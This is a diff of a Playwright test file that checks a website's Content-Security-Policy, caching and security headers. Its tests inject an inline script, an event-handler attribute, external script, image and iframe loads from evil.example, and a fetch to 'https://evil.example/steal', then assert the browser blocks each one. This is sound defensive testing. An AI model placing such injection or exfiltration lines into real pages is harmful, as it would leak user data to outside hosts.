@@ -1,43 +1,68 @@
 import { readdir, readFile } from "node:fs/promises";
 import path from "node:path";
 import { testSites } from "./setup/test-sites";
-import { expect, needsLocalServer, open, test } from "./test";
+import { expect, needsLocalServer, test } from "./test";
 
-test("the policy names the hosts that are needed, and nobody else", async ({ request }) => {
-  const headers = (await request.get("/")).headers();
-  const policy = Object.fromEntries(
-    (headers["content-security-policy"] ?? "").split(/;\s*/).map((directive) => {
-      const [name, ...values] = directive.split(" ");
-      return [name, values];
-    }),
-  );
-  expect(policy).toEqual({
-    "default-src": ["'none'"],
-    "script-src": ["'self'"],
-    "style-src": ["'self'", expect.stringMatching(/^'sha256-.{44}'$/)],
-    "font-src": ["'self'"],
-    "img-src": ["'self'", "https://images.unsplash.com"],
-    "connect-src": ["'self'", "https://api.emailjs.com", "https://api.web3forms.com"],
-    "manifest-src": ["'self'"],
-    "base-uri": ["'none'"],
-    "form-action": ["'self'"],
-    "frame-ancestors": ["'none'"],
+/** What is smuggled in below, as the browser names it when it refuses it. */
+const everything = [
+  "connect-src https://evil.example/steal",
+  "frame-src https://evil.example",
+  "img-src https://evil.example/x.png",
+  "script-src-attr inline",
+  "script-src-elem https://evil.example/x.js",
+  "script-src-elem inline",
+  "style-src-elem inline",
+];
+/** Every kind of page: the editor alone writes styles of its own. */
+const pages = {
+  "/": everything,
+  "/404.html": everything,
+  "/nothing-here": everything,
+  "/edit/": everything.filter((one) => !one.startsWith("style")),
+};
+
+for (const [address, refused] of Object.entries(pages)) {
+  test.describe(`at ${address}`, () => {
+    test.use({ expectedErrors: /Content Security Policy|Failed to load resource/ });
+
+    test("nothing that is smuggled in runs, shows or calls a stranger", async ({ page }) => {
+      // What the editor does by itself, its own stories tell.
+      await page.route("/edit/sveltia-cms.js", (route) => route.abort());
+      await page.goto(address);
+      await page.evaluate(() => {
+        const seen: string[] = [];
+        Object.assign(window, { seen });
+        addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
+          seen.push(`${effectiveDirective} ${blockedURI}`);
+        });
+        const add = (name: string, properties: object) =>
+          document.body.append(Object.assign(document.createElement(name), properties));
+        add("script", { textContent: "window.hacked = 'inline'" });
+        add("script", { src: "https://evil.example/x.js" });
+        add("style", { textContent: "body { display: none }" });
+        add("div", { innerHTML: `<i onclick="window.hacked = 'attribute'">press</i>` });
+        add("img", { src: "https://evil.example/x.png" });
+        add("iframe", { src: "https://evil.example/" });
+        fetch("https://evil.example/steal").catch(() => {});
+      });
+      const seen = () => page.evaluate(() => Reflect.get(window, "seen").sort());
+      await expect.poll(seen).toEqual(refused);
+      await page.getByText("press").dispatchEvent("click");
+      expect(await page.evaluate(() => "hacked" in window)).toBe(false);
+    });
+
+    test("it cannot be shown in anybody's frame", async ({ page, baseURL }) => {
+      await page.setContent(`<iframe src="${new URL(address, baseURL)}"></iframe>`);
+      await expect.poll(() => page.frames()[1]?.url()).toBe("chrome-error://chromewebdata/");
+    });
   });
-  expect(headers["strict-transport-security"]).toMatch(/^max-age=\d{8}/);
-  expect(headers["x-content-type-options"]).toBe("nosniff");
-  expect(headers["referrer-policy"]).toBe("strict-origin-when-cross-origin");
-  expect(headers["permissions-policy"]).toContain("camera=()");
-  expect(headers["cross-origin-opener-policy"]).toBe("same-origin");
-});
+}
 
-for (const [name, address] of [
-  ["front page", "/"],
-  ["page of addresses that lead nowhere", "/nothing-here"],
-] as const) {
-  test.describe(`the ${name}`, () => {
+for (const address of ["/", "/nothing-here"]) {
+  test.describe(`at ${address}`, () => {
     test.use({ expectedErrors: /Failed to load resource.*404/ });
 
-    test("comes with its styles, and the policy allows them", async ({ page }) => {
+    test("the page's own styles come with it, and the policy allows them", async ({ page }) => {
       await page.goto(address);
       await expect(page.locator("style")).toHaveCount(1);
       await expect(page.locator("link[rel='stylesheet']:not([media='print'])")).toHaveCount(0);
@@ -46,62 +71,29 @@ for (const [name, address] of [
   });
 }
 
-test("what is named by its content is kept for a year, but never that it was missing", async ({
+test("what is named by its content is kept for a year, what is not can change with any deploy", async ({
   page,
   request,
 }) => {
   await page.goto("/");
   const photo = await page.locator("main source").first().getAttribute("srcset");
-  const caching = async (address: string) =>
-    (await request.get(address)).headers()["cache-control"] ?? "";
-  expect(await caching(photo?.split(" ")[0] ?? "")).toContain("immutable");
-  for (const folder of ["/photos", "/_next/static"]) {
-    expect(await caching(`${folder}/nothing-here.avif`)).toContain("max-age=0");
+  const starter = await page.locator("script[src]").first().getAttribute("src");
+  for (const [address, caching] of [
+    [photo?.split(" ")[0], /max-age=31536000, immutable/],
+    [starter, /max-age=31536000, immutable/],
+    ["/images/logo.svg", /^(?!.*immutable)/],
+    ["/", /^(?!.*immutable)/],
+  ] as const) {
+    const headers = (await request.get(address ?? "")).headers();
+    expect(headers["cache-control"] ?? "", address ?? "").toMatch(caching);
+    expect(headers["strict-transport-security"]).toMatch(/^max-age=\d{8}/);
+    expect(headers["x-content-type-options"]).toBe("nosniff");
+    expect(headers["referrer-policy"]).toBe("strict-origin-when-cross-origin");
+    expect(headers["permissions-policy"]).toContain("camera=()");
+    // The editor's sign-in needs it; the page opens no window.
+    expect(headers["cross-origin-opener-policy"]).toBe("same-origin-allow-popups");
   }
-});
-
-test.describe("what somebody smuggles into the page", () => {
-  test.use({ expectedErrors: /Content Security Policy|Failed to load resource/ });
-
-  test("does not run: no inline script, no event attribute, no style, no stranger's script", async ({
-    page,
-  }) => {
-    await open(page);
-    await page.evaluate(async () => {
-      const seen: string[] = [];
-      Object.assign(window, { seen });
-      addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
-        seen.push(effectiveDirective);
-      });
-      const inline = document.createElement("script");
-      inline.textContent = "window.hacked = 'inline'";
-      document.body.append(inline);
-      const style = document.createElement("style");
-      style.textContent = "body { display: none }";
-      document.body.append(style);
-      const holder = document.createElement("div");
-      holder.innerHTML = `<img src="/images/nothing-here.jpg" onerror="window.hacked = 'attribute'">`;
-      document.body.append(holder);
-      const stranger = document.createElement("script");
-      stranger.src = "https://evil.example/x.js";
-      const failed = new Promise((resolve) => stranger.addEventListener("error", resolve));
-      document.body.append(stranger);
-      await failed;
-      await fetch("https://evil.example/steal").catch(() => {});
-    });
-    await expect
-      .poll(() => page.evaluate(() => (window as unknown as { seen: string[] }).seen))
-      .toEqual(
-        expect.arrayContaining([
-          "script-src-elem",
-          "script-src-attr",
-          "style-src-elem",
-          "connect-src",
-        ]),
-      );
-    await expect(page.locator("body")).toBeVisible();
-    expect(await page.evaluate(() => "hacked" in window)).toBe(false);
-  });
+  expect((await request.get("/edit/")).headers()["x-robots-tag"]).toBe("noindex");
 });
 
 test("the export holds no source map, no secret and no path of the machine it was built on", async () => {
